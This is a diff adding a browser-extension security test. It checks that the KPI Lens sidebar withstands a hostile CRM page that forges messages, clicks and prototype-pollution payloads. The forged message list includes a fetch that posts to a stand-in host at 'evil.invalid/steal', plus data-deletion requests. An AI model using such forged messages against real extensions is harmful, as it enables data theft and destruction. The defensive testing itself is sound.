@@ -1,0 +1,227 @@
+/**
+ * A hostile CRM page, in real Chromium (test/fixtures/hostile-crm.ts): to KPI Lens it is a sandbox
+ * CRM, so the sidebar mounts and the API is synced; the page shows a 50,000-row table, its API
+ * serves 1 MB titles and `__proto__`/`constructor` keys, and its own script (running before the
+ * content script) hooks the DOM, forges postMessage traffic in every shape KPI Lens uses, forges
+ * clicks and keys on the sidebar's handle, and tries to read the sidebar. Nothing it does starts an
+ * extension action, reads the sidebar or pollutes a prototype; oversize records end in quarantine.
+ * Forged runtime messages are sent from the content script's own world (DevTools protocol, its
+ * isolated execution context): privileged requests are refused there.
+ */
+import type { CDPSession, Frame, Page, Worker } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { RELAY_BITRIX_SESSID, RELAY_FETCH } from '../../lib/connections/relay-protocol';
+import { QUARANTINE_RAW_LIMIT } from '../../lib/db/schema';
+import { parseRecord, type RecordType } from '../../lib/model';
+import { uiStateKey } from '../../lib/settings/ui-state';
+import { launchWithExtension, type ExtensionBrowser } from '../harness/chromium';
+import { readSidebar, sidebarFrame, type SidebarReading } from '../harness/sidebar-reader';
+import { readExtensionDb, type DbSnapshot } from '../fixtures/extension-db';
+import { startHostileCrm, type HostileCrm } from '../fixtures/hostile-crm';
+import { openQuietPage } from '../fixtures/quiet-page';
+import { canonicalJson, servedObjects, type ServedObject } from '../fixtures/sandbox-expectations';
+import { allDone } from '../fixtures/sync-invariants';
+
+const TIME_ZONE = 'Europe/Berlin';
+let crm: HostileCrm;
+let browser: ExtensionBrowser;
+let quiet: Page;
+let page: Page;
+let frame: Frame;
+let shown: SidebarReading;
+let source: string;
+let served: Map<string, ServedObject>;
+
+beforeAll(async () => {
+  crm = await startHostileCrm({ timeZone: TIME_ZONE });
+  source = `sandbox:127.0.0.1:${crm.port}`;
+  served = await servedObjects(crm.dataset, source);
+  browser = await launchWithExtension({ timeZone: TIME_ZONE });
+  quiet = await openQuietPage(browser);
+});
+
+afterAll(async () => {
+  await browser?.close();
+  await crm?.close();
+});
+
+type Hostile = {
+  probe: () => Record<string, unknown> & { html: string; polluted: unknown[] };
+  attack: (shapes: unknown[], origin: string) => { hostRect: { left: number; top: number; width: number; height: number }; points: number };
+};
+const hostile = (target: Page) => ({
+  probe: () => target.evaluate(() => (window as unknown as { __hostile: Hostile }).__hostile.probe()),
+  attack: (shapes: unknown[], origin: string) => target.evaluate(([list, to]) => (window as unknown as { __hostile: Hostile }).__hostile.attack(list as unknown[], to as string), [shapes, origin] as const),
+});
+
+/** Object.prototype and friends, as a realm sees them: any polluted key shows up here. */
+const PROTOTYPE_PROBE = `(() => ({
+  polluted: [({}).polluted, [].polluted, (function () {}).polluted, Object.prototype.polluted, ({}).toString].map((value) => typeof value),
+  objectKeys: Object.getOwnPropertyNames(Object.prototype).sort(),
+  arrayKeys: Object.getOwnPropertyNames(Array.prototype).length,
+  forIn: (() => { const found = []; for (const key in {}) found.push(key); return found; })(),
+}))()`;
+
+async function prototypesOf(target: Page | Frame | Worker): Promise<unknown> {
+  return (target.evaluate as (expression: string) => Promise<unknown>)(PROTOTYPE_PROBE);
+}
+
+/** The content script's isolated world in a tab, reached through the DevTools protocol. */
+async function contentScriptWorld(target: Page, extensionId: string): Promise<{ evaluate: (expression: string) => Promise<unknown>; session: CDPSession }> {
+  const session = await target.context().newCDPSession(target);
+  const contexts: { id: number; origin: string; auxData?: { type?: string } }[] = [];
+  session.on('Runtime.executionContextCreated', ({ context }) => contexts.push(context as (typeof contexts)[number]));
+  await session.send('Runtime.enable');
+  const world = contexts.find((context) => context.auxData?.type === 'isolated' && context.origin === `chrome-extension://${extensionId}`);
+  if (!world) throw new Error('the content script’s world was not found in the tab');
+  return {
+    session,
+    evaluate: async (expression) => {
+      const { result, exceptionDetails } = await session.send('Runtime.evaluate', { expression, contextId: world.id, awaitPromise: true, returnByValue: true });
+      if (exceptionDetails) throw new Error(exceptionDetails.exception?.description ?? exceptionDetails.text);
+      return result.value;
+    },
+  };
+}
+
+const uiState = () => quiet.evaluate((key) => (globalThis as unknown as { chrome: { storage: { local: { get(k: string): Promise<Record<string, unknown>> } } } }).chrome.storage.local.get(key).then((all) => all[key] ?? null), uiStateKey('sandbox'));
+const marginRight = () => page.evaluate(() => document.documentElement.style.getPropertyValue('margin-right'));
+const stored = (snapshot: DbSnapshot) => Object.values(snapshot.tables).reduce((sum, rows) => sum + rows.length, 0);
+
+describe('a hostile CRM page', () => {
+  it('syncs hostile records without pollution: 1 MB titles in quarantine, every stored record valid and unchanged', async () => {
+    page = await browser.context.newPage();
+    await page.goto(`${crm.url}/deals`);
+    expect(await page.locator('#deals tbody tr').count()).toBe(50_000);
+    frame = await sidebarFrame(page);
+    shown = await readSidebar(frame);
+    expect(shown.figures['pipeline.total']?.value, 'the sidebar shows numbers on the hostile page').toBeGreaterThan(0);
+    await expect.poll(async () => allDone(await readExtensionDb(quiet, source, { statesOnly: true }), served), { timeout: 60_000 }).toBe(true);
+
+    const snapshot = await readExtensionDb(quiet, source, { content: true });
+    const quarantined = new Set(crm.expected.quarantined.map((entry) => `${entry.object}/${entry.externalId}`));
+    expect(snapshot.quarantine.map((entry) => `${entry.recordType === 'deal' ? 'deals' : 'activities'}/${entry.externalId}`).sort()).toEqual([...quarantined].sort());
+    for (const entry of snapshot.quarantine) {
+      expect(entry.reason).toMatch(/longer than 500/);
+      expect(entry.rawJson!.length).toBeLessThan(QUARANTINE_RAW_LIMIT + 100); // capped, not 1 MB
+    }
+    for (const object of served.values()) {
+      const rows = (snapshot.tables[object.table] ?? []) as Record<string, unknown>[];
+      const expectedIds = object.ids.filter((id) => !quarantined.has(`${object.object}/${id}`));
+      expect(rows.map((row) => row.externalId).sort(), object.object).toEqual([...expectedIds].sort());
+      for (const row of rows) {
+        // Valid, and exactly the CRM's record as the model reads it (own `__proto__`/`constructor` keys dropped).
+        const parsed = parseRecord(object.type as RecordType, object.byId.get(row.externalId as string));
+        expect(parsed.ok, `${object.object}/${String(row.externalId)}`).toBe(true);
+        expect(parseRecord(object.type as RecordType, row).ok).toBe(true);
+        if (parsed.ok) expect(canonicalJson(row)).toBe(canonicalJson(parsed.record));
+        expect(Object.prototype.hasOwnProperty.call(row, '__proto__'), 'no own __proto__ key stored').toBe(false);
+      }
+    }
+    const deals = snapshot.tables.deals as { externalId: string; title: string }[];
+    expect(deals.map((deal) => deal.title)).toEqual(expect.arrayContaining(['__proto__', 'constructor', 'toString']));
+    expect(deals.some((deal) => deal.externalId === '__proto__')).toBe(true);
+
+    // No prototype is polluted anywhere KPI Lens runs: the worker, its pages, the content script's world.
+    const blank = await browser.context.newPage();
+    const pristine = await prototypesOf(blank);
+    await blank.close();
+    const options = await browser.context.newPage();
+    await options.goto(`chrome-extension://${browser.extensionId}/options.html`);
+    await options.waitForSelector('h1, h2', { timeout: 30_000 });
+    const worker = browser.context.serviceWorkers().at(-1)!;
+    const world = await contentScriptWorld(page, browser.extensionId);
+    for (const [where, realm] of [['service worker', await prototypesOf(worker)], ['sidebar', await prototypesOf(frame)], ['options', await prototypesOf(options)], ['page', await prototypesOf(page)], ['content script', await world.evaluate(PROTOTYPE_PROBE)]] as const) {
+      expect(realm, where).toEqual(pristine);
+    }
+    expect((pristine as { polluted: unknown[] }).polluted).toEqual(['undefined', 'undefined', 'undefined', 'undefined', 'function']);
+    await world.session.detach();
+    await options.close();
+  });
+
+  it('starts nothing, changes nothing and reads nothing of the sidebar, whatever the page forges', async () => {
+    const origin = `chrome-extension://${browser.extensionId}`;
+    const requestsBefore = crm.apiRequests();
+    const stateBefore = await uiState();
+    const marginBefore = await marginRight();
+    const recordsBefore = stored(await readExtensionDb(quiet, source));
+    const pagesBefore = browser.context.pages().length;
+    expect(recordsBefore).toBeGreaterThan(1_000);
+
+    const shapes: unknown[] = [
+      { type: 'page/opened', url: `${crm.url}/deals` },
+      { type: 'sidebar/toggle' },
+      { type: 'sidebar/toggle', tabId: 0 },
+      { type: RELAY_FETCH, url: `${crm.url}/api/v1/deals`, method: 'GET', headers: {} },
+      { type: RELAY_FETCH, url: 'http://evil.invalid/steal', method: 'POST', headers: {}, body: 'x' },
+      { type: RELAY_BITRIX_SESSID },
+      { type: 'sync/start', source, full: true },
+      { type: 'status/get' },
+      { type: 'demo/load' },
+      { type: 'data/delete-all' },
+      { type: 'data/erase-everything' },
+      { type: 'data/export-page', table: 'deal', limit: 5_000 },
+      { type: 'import/delete', source: 'csv:x' },
+      { type: 'table/pick', tabId: 0 },
+      { type: 'table/rows', rows: [] },
+      JSON.parse('{"__proto__": {"polluted": "message"}, "type": "sidebar/toggle"}'),
+      null,
+      'sidebar/toggle',
+    ];
+    const { hostRect, points } = await hostile(page).attack(shapes, origin);
+    expect(points).toBeGreaterThan(10);
+    await page.waitForTimeout(3_000);
+
+    // No extension action: no sync (no API request), no toggle, no delete, no export, no new tab.
+    expect(crm.apiRequests()).toEqual(requestsBefore);
+    expect(await uiState()).toEqual(stateBefore);
+    expect(await marginRight()).toBe(marginBefore);
+    expect(stored(await readExtensionDb(quiet, source))).toBe(recordsBefore);
+    expect(browser.context.pages().length).toBe(pagesBefore);
+    expect(await page.evaluate(PROTOTYPE_PROBE)).toEqual(await prototypesOf(quiet));
+
+    // The page read nothing of the sidebar: no shadow root, no frame, no URL, no message, none of its text.
+    const probe = await hostile(page).probe();
+    expect(probe).toMatchObject({ host: true, shadowRoot: false, childNodes: 0, iframesInDocument: 0, frames: [], reattach: 'refused: NotSupportedError', capturedRoots: [], iframes: [], frameUrls: [], extensionMessages: [], runtimeSendMessage: 'undefined' });
+    expect(probe.forgedMessagesSeen).toBeGreaterThan(shapes.length); // the forged traffic did happen
+    const sidebarText = await frame.evaluate(() => document.body.innerText);
+    expect(sidebarText.length).toBeGreaterThan(50);
+    expect(probe.html).not.toContain(browser.extensionId);
+    expect(probe.html).not.toContain(shown.owner!);
+    expect(probe.html).not.toContain(shown.figures['pipeline.total']!.text);
+
+    // The control: the rep's own (trusted) click on the same handle does toggle the sidebar, both ways.
+    const wasOpen = (stateBefore as { open?: boolean } | null)?.open ?? true;
+    expect(hostRect.width).toBeGreaterThan(100); // open: the handle is at the host's left edge, 40vh down
+    for (const open of [!wasOpen, wasOpen]) {
+      const rect = await page.evaluate(() => document.querySelector('kpi-lens-sidebar')!.getBoundingClientRect().toJSON() as { left: number; top: number; height: number });
+      await page.mouse.click(rect.left + 9, rect.top + rect.height * 0.4 + 42);
+      await expect.poll(async () => ((await uiState()) as { open?: boolean } | null)?.open, { timeout: 10_000 }).toBe(open);
+    }
+  });
+
+  it('refuses privileged requests sent from the content script’s own world', async () => {
+    const world = await contentScriptWorld(page, browser.extensionId);
+    const send = (message: unknown) => world.evaluate(`chrome.runtime.sendMessage(${JSON.stringify(message)})`) as Promise<{ ok: boolean; error?: string; value?: unknown }>;
+    const requestsBefore = crm.apiRequests();
+    const recordsBefore = stored(await readExtensionDb(quiet, source));
+    // The channel works: the one request a content script may make is answered.
+    expect(await send({ type: 'page/opened', url: `${crm.url}/deals` })).toEqual({ ok: true, value: { source } });
+    const privileged = [
+      { type: 'data/delete-all' },
+      { type: 'data/erase-everything' },
+      { type: 'data/export-page', table: 'deal', limit: 5_000 },
+      { type: 'sync/start', source, full: true },
+      { type: 'demo/load' },
+      { type: 'status/get' },
+      { type: 'import/delete', source: 'csv:x' },
+      { type: 'sidebar/toggle' },
+    ];
+    for (const message of privileged) expect(await send(message), message.type).toEqual({ ok: false, error: `refused: ${message.type} is only for KPI Lens pages` });
+    expect(await send({ type: 'no/such-request' })).toEqual({ ok: false, error: 'refused: not a KPI Lens message' });
+    await page.waitForTimeout(1_000);
+    expect(crm.apiRequests()).toEqual(requestsBefore);
+    expect(stored(await readExtensionDb(quiet, source))).toBe(recordsBefore);
+    await world.session.detach();
+  });
+});
